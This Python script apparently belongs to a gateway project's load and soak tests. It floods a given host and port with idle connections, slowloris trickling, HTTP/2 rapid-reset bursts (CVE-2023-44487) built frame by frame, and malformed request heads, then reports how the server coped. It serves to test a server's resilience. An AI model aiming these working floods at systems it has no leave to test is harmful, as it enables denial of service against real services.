"""Floods for bench/flood.sh and scripts/soak.sh: hostile clients at full speed for a while.

  python3 bench/flood.py MODE HOST:PORT SECONDS [CONNECTIONS]

idle       CONNECTIONS connections that send nothing (held until the header timeout)
slowloris  CONNECTIONS connections trickling a head, a byte a second each
rapid      HTTP/2 rapid reset (CVE-2023-44487): streams opened and cancelled at once, on one
           connection after another
garbage    connection after connection sending a head the parser refuses
Prints one line: what it did.
"""
import asyncio
import struct
import sys
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def rapid_burst(streams=2000):
    block = b"\x82\x86\x04\x06/flood\x01\x0epublic.example"
    out = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, 0)]
    for i in range(streams):
        sid = 2 * i + 1
        out.append(frame(1, 5, sid, block))
        out.append(frame(3, 0, sid, struct.pack(">I", 8)))
    return b"".join(out)


async def hold(host, port, deadline, trickle, stats):
    try:
        r, w = await asyncio.open_connection(host, port)
    except OSError:
        stats["refused"] += 1
        return
    stats["opened"] += 1
    try:
        if trickle:
            w.write(b"GET / HTTP/1.1\r\nHost: public.example\r\nX-Slow: ")
        while time.monotonic() < deadline:
            if trickle:
                w.write(b"a")
                await w.drain()
            try:
                data = await asyncio.wait_for(r.read(4096), 1.0)
                if not data:
                    stats["closed_by_gateway"] += 1
                    return
            except asyncio.TimeoutError:
                pass
    except OSError:
        stats["closed_by_gateway"] += 1
    finally:
        w.close()


async def repeat(host, port, deadline, payload, stats):
    while time.monotonic() < deadline:
        try:
            r, w = await asyncio.open_connection(host, port)
            w.write(payload)
            await w.drain()
            while await asyncio.wait_for(r.read(65536), 5.0):
                pass
            w.close()
            stats["connections"] += 1
        except (OSError, asyncio.TimeoutError):
            stats["errors"] += 1


async def main():
    mode, addr, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    count = int(sys.argv[4]) if len(sys.argv) > 4 else 1000
    host, port = addr.rsplit(":", 1)
    deadline = time.monotonic() + seconds
    stats = {"opened": 0, "refused": 0, "closed_by_gateway": 0, "connections": 0, "errors": 0}
    if mode in ("idle", "slowloris"):
        tasks = []
        for _ in range(count):
            tasks.append(asyncio.create_task(hold(host, port, deadline, mode == "slowloris", stats)))
            await asyncio.sleep(0)
        await asyncio.gather(*tasks)
        print(f"{mode}: {stats['opened']} connections held, {stats['refused']} refused at connect, "
              f"{stats['closed_by_gateway']} closed by the gateway")
    else:
        payload = rapid_burst() if mode == "rapid" else b"GET / HTTP/1.1\r\nHost: x\r\nBad Header\r\n\r\n"
        workers = [repeat(host, port, deadline, payload, stats) for _ in range(4)]
        await asyncio.gather(*workers)
        extra = f" ({stats['connections'] * 2000} cancelled streams)" if mode == "rapid" else ""
        print(f"{mode}: {stats['connections']} connections{extra}, {stats['errors']} errors")


asyncio.run(main())
